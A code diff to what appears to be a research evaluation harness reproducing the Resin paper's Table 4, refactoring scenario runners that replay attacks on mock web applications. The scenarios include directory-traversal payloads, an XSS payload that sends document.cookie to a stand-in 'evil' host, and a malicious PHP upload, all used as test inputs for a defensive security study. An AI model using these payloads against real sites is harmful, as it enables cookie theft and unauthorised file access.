@@ -15,7 +15,7 @@ The scenario functions are shared by the integration tests
 from __future__ import annotations
 
 from dataclasses import dataclass, field
-from typing import Callable, Dict, List
+from typing import Callable, Dict, List, Tuple
 
 from ..core.exceptions import PolicyViolation
 from ..environment import Environment
@@ -52,6 +52,10 @@ class RowResult:
         return sum(1 for a in self.attacks if a.succeeded)
 
 
+#: What a scenario runner measures: its attacks and the legitimate-use check.
+Measured = Tuple[List[AttackResult], bool]
+
+
 @dataclass
 class Scenario:
     """One row of Table 4."""
@@ -64,7 +68,7 @@ class Scenario:
     known: int                # previously-known vulnerabilities
     discovered: int           # newly-discovered vulnerabilities
     vulnerability_type: str
-    runner: Callable[[bool], RowResult] = None
+    runner: Callable[[bool], Measured] = None
 
 
 def _attack(name: str, goal: Callable[[], bool]) -> AttackResult:
@@ -80,7 +84,7 @@ def _attack(name: str, goal: Callable[[], bool]) -> AttackResult:
 # MIT EECS graduate admissions — SQL injection
 # --------------------------------------------------------------------------
 
-def run_admissions(use_resin: bool) -> RowResult:
+def run_admissions(use_resin: bool) -> Measured:
     from ..apps.admissions import AdmissionsSystem
     app = AdmissionsSystem(Environment(), use_resin=use_resin)
     app.add_applicant(1, "Alice", "systems", 780, notes="strong accept")
@@ -96,8 +100,7 @@ def run_admissions(use_resin: bool) -> RowResult:
     ]
     legitimate = (len(app.search_by_name("Alice")) == 1
                   and len(app.filter_by_area("systems")) == 1)
-    return RowResult("MIT EECS grad admissions", "SQL injection", 9, 0, 3,
-                     attacks, legitimate)
+    return attacks, legitimate
 
 
 def _update_decision_attack(app) -> bool:
@@ -121,7 +124,7 @@ def _moin_fixture(use_resin: bool, use_write: bool):
     return wiki
 
 
-def run_moinmoin_read(use_resin: bool) -> RowResult:
+def run_moinmoin_read(use_resin: bool) -> Measured:
     wiki = _moin_fixture(use_resin, use_write=False)
     wiki.update_body("MalloryPage", "{{include:SecretPlans}}", "mallory")
 
@@ -142,11 +145,10 @@ def run_moinmoin_read(use_resin: bool) -> RowResult:
                                                    "alice").body()
                   and "welcome" in wiki.view_page("PublicPage",
                                                   "mallory").body())
-    return RowResult("MoinMoin", "Missing read access control checks", 8,
-                     2, 0, attacks, legitimate)
+    return attacks, legitimate
 
 
-def run_moinmoin_write(use_resin: bool) -> RowResult:
+def run_moinmoin_write(use_resin: bool) -> Measured:
     wiki = _moin_fixture(use_resin, use_write=use_resin)
 
     def deface_attack() -> bool:
@@ -160,16 +162,14 @@ def run_moinmoin_write(use_resin: bool) -> RowResult:
                                 "#acl alice:read,write\nupdated plans",
                                 "alice")
     legitimate = revision == 2
-    return RowResult("MoinMoin", "Missing write access control checks", 15,
-                     0, 0, attacks, legitimate)
+    return attacks, legitimate
 
 
 # --------------------------------------------------------------------------
 # File Thingie / PHP Navigator — directory traversal
 # --------------------------------------------------------------------------
 
-def _run_filemanager(cls, name: str, payload: str, assertion_loc: int,
-                     use_resin: bool) -> RowResult:
+def _run_filemanager(cls, payload: str, use_resin: bool) -> Measured:
     fm = cls(Environment(), use_resin=use_resin)
     fm.create_account("alice")
     fm.create_account("mallory")
@@ -185,20 +185,18 @@ def _run_filemanager(cls, name: str, payload: str, assertion_loc: int,
                   .endswith("/mallory/mine.txt")
                   and "alice's notes" in str(fm.read_file("alice",
                                                           "notes.txt")))
-    return RowResult(name, "Directory traversal, file access control",
-                     assertion_loc, 0, 1, attacks, legitimate)
+    return attacks, legitimate
 
 
-def run_file_thingie(use_resin: bool) -> RowResult:
+def run_file_thingie(use_resin: bool) -> Measured:
     from ..apps.filemanager import FileThingie
-    return _run_filemanager(FileThingie, "File Thingie file manager",
-                            "docs/../../alice/owned.txt", 19, use_resin)
+    return _run_filemanager(FileThingie, "docs/../../alice/owned.txt",
+                            use_resin)
 
 
-def run_php_navigator(use_resin: bool) -> RowResult:
+def run_php_navigator(use_resin: bool) -> Measured:
     from ..apps.filemanager import PHPNavigator
-    return _run_filemanager(PHPNavigator, "PHP Navigator",
-                            "....//alice/owned.txt", 17, use_resin)
+    return _run_filemanager(PHPNavigator, "....//alice/owned.txt", use_resin)
 
 
 # --------------------------------------------------------------------------
@@ -221,7 +219,7 @@ def _hotcrp_fixture(use_resin: bool):
     return site
 
 
-def run_hotcrp_password(use_resin: bool) -> RowResult:
+def run_hotcrp_password(use_resin: bool) -> Measured:
     site = _hotcrp_fixture(use_resin)
     site.email_preview_mode = True
 
@@ -239,11 +237,10 @@ def run_hotcrp_password(use_resin: bool) -> RowResult:
     legitimate = any(m.to == "victim@example.org"
                      and "victim-password" in m.body
                      for m in site.env.mail.outbox)
-    return RowResult("HotCRP", "Password disclosure", 23, 1, 0, attacks,
-                     legitimate)
+    return attacks, legitimate
 
 
-def run_hotcrp_paper_access(use_resin: bool) -> RowResult:
+def run_hotcrp_paper_access(use_resin: bool) -> Measured:
     site = _hotcrp_fixture(use_resin)
 
     def outsider_reads_reviews() -> bool:
@@ -254,11 +251,10 @@ def run_hotcrp_paper_access(use_resin: bool) -> RowResult:
                        outsider_reads_reviews)]
     legitimate = "Strong accept" in site.review_page(
         1, "pc@example.org").body()
-    return RowResult("HotCRP", "Missing access checks for papers", 30, 0, 0,
-                     attacks, legitimate)
+    return attacks, legitimate
 
 
-def run_hotcrp_author_list(use_resin: bool) -> RowResult:
+def run_hotcrp_author_list(use_resin: bool) -> Measured:
     site = _hotcrp_fixture(use_resin)
 
     def pc_sees_anonymous_authors() -> bool:
@@ -275,15 +271,14 @@ def run_hotcrp_author_list(use_resin: bool) -> RowResult:
     page = site.paper_page(1, "pc@example.org")
     legitimate = ("Data Flow Assertions" in page.body()
                   and "alice@authors.org" not in page.body())
-    return RowResult("HotCRP", "Missing access checks for author list", 32,
-                     0, 0, attacks, legitimate)
+    return attacks, legitimate
 
 
 # --------------------------------------------------------------------------
 # myPHPscripts login library — password disclosure
 # --------------------------------------------------------------------------
 
-def run_loginlib(use_resin: bool) -> RowResult:
+def run_loginlib(use_resin: bool) -> Measured:
     from ..apps.loginlib import LoginLibrary
     lib = LoginLibrary(Environment(), use_resin=use_resin)
     lib.register("victim", "victim-secret")
@@ -295,8 +290,7 @@ def run_loginlib(use_resin: bool) -> RowResult:
     attacks = [_attack("HTTP request for the plain-text password file "
                        "(CVE-2008-5855)", fetch_password_file)]
     legitimate = lib.authenticate("victim", "victim-secret")
-    return RowResult("myPHPscripts login library", "Password disclosure", 6,
-                     1, 0, attacks, legitimate)
+    return attacks, legitimate
 
 
 # --------------------------------------------------------------------------
@@ -315,7 +309,7 @@ def _phpbb_fixture(use_read: bool, use_xss: bool):
     return board
 
 
-def run_phpbb_access(use_resin: bool) -> RowResult:
+def run_phpbb_access(use_resin: bool) -> Measured:
     board = _phpbb_fixture(use_read=use_resin, use_xss=False)
 
     def printable() -> bool:
@@ -341,11 +335,10 @@ def run_phpbb_access(use_resin: bool) -> RowResult:
     legitimate = ("secret" in board.view_message(10, "admin").body()
                   and "hello world" in board.view_message(
                       11, "mallory").body())
-    return RowResult("phpBB", "Missing access control checks", 23, 1, 3,
-                     attacks, legitimate)
+    return attacks, legitimate
 
 
-def run_phpbb_xss(use_resin: bool) -> RowResult:
+def run_phpbb_xss(use_resin: bool) -> Measured:
     from ..channels.socketchan import SocketChannel
     board = _phpbb_fixture(use_read=False, use_xss=use_resin)
     payload = "<script>document.location='http://evil/'+document.cookie</script>"
@@ -379,25 +372,22 @@ def run_phpbb_xss(use_resin: bool) -> RowResult:
                 whois),
     ]
     legitimate = "hello world" in board.view_message(11, "viewer").body()
-    return RowResult("phpBB", "Cross-site scripting", 22, 4, 0, attacks,
-                     legitimate)
+    return attacks, legitimate
 
 
 # --------------------------------------------------------------------------
 # Server-side script injection (five applications, one assertion)
 # --------------------------------------------------------------------------
 
-def run_script_injection(use_resin: bool) -> RowResult:
+def run_script_injection(use_resin: bool) -> Measured:
     # The script-injection assertion is installed on each application's own
     # environment registry, so no process-global setup/teardown is needed
     # (the pre-registry code had to reset_default_filters() around this).
     from ..apps.scriptapps import VULNERABLE_APPS, UploadApp
     attacks: List[AttackResult] = []
-    legitimate = True
     for name, cve in VULNERABLE_APPS:
         app = UploadApp(name, Environment(), use_resin=use_resin, cve=cve)
-        app.run_index()
-        legitimate = legitimate and bool(True)
+        app.run_index()  # the legitimate use: raises if the assertion blocks it
         app.upload("mallory", "evil.php",
                    "globals_dict['pwned'] = True")
 
@@ -407,9 +397,7 @@ def run_script_injection(use_resin: bool) -> RowResult:
 
         attacks.append(_attack(f"upload-and-execute in {name} ({cve})",
                                exploit))
-    return RowResult("many (upload-enabled PHP apps)",
-                     "Server-side script injection", 12, 5, 0, attacks,
-                     legitimate)
+    return attacks, True
 
 
 # --------------------------------------------------------------------------
@@ -440,15 +428,19 @@ SCENARIOS: List[Scenario] = [
              "Missing access control checks", run_phpbb_access),
     Scenario("phpBB", "PHP", 172_000, "Cross-site scripting", 22, 4, 0,
              "Cross-site scripting", run_phpbb_xss),
-    Scenario("many [3, 11, 16, 23, 36]", "PHP", 0, "Script injection", 12,
-             5, 0, "Server-side script injection", run_script_injection),
+    # The paper's row names the applications by citation: [3, 11, 16, 23, 36].
+    Scenario("many (upload-enabled PHP apps)", "PHP", 0, "Script injection",
+             12, 5, 0, "Server-side script injection", run_script_injection),
 ]
 
 
 def run_scenario(scenario: Scenario, use_resin: bool) -> RowResult:
     # Every scenario builds its own Environment (and thus its own filter
     # registry), so scenarios are isolated without global teardown.
-    return scenario.runner(use_resin)
+    attacks, legitimate = scenario.runner(use_resin)
+    return RowResult(scenario.application, scenario.vulnerability_type,
+                     scenario.assertion_loc, scenario.known,
+                     scenario.discovered, attacks, legitimate)
 
 
 def run_all(use_resin: bool) -> List[RowResult]:
